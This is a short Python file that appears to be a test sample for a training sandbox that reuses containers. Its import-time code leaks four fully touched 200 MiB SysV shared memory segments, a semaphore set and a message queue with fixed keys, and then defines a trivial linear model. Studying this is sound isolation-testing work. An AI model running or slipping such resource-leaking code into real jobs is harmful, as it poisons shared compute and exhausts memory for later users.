"""Warm-pool poisoning: leaves SysV shared memory, semaphores and message queues behind.

Four 200 MiB shared memory segments, every page touched so that they count against the
container's memory, detached but never removed (a segment outlives every process); a semaphore
set and a message queue with fixed keys. Then trains.
"""

import ctypes

import torch.nn as nn

IPC_CREAT, IPC_SET, SEGMENT = 0o1000, 1, 200 * 2**20
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
libc.shmdt.argtypes = [ctypes.c_void_p]
for i in range(4):
    shmid = libc.shmget(0x5EED00 + i, ctypes.c_size_t(SEGMENT), IPC_CREAT | 0o666)
    if shmid < 0:
        continue
    address = libc.shmat(shmid, None, 0)
    if address not in (None, ctypes.c_void_p(-1).value):
        ctypes.memset(address, 1, SEGMENT)
        libc.shmdt(address)
libc.semget(0x5EED10, 8, IPC_CREAT | 0o666)
libc.msgget(0x5EED11, IPC_CREAT | 0o666)


class Net(nn.Module):
    def __init__(self, num_classes=10):
        super().__init__()
        self.fc = nn.Linear(28 * 28, num_classes)

    def forward(self, x):
        return self.fc(x.flatten(1))
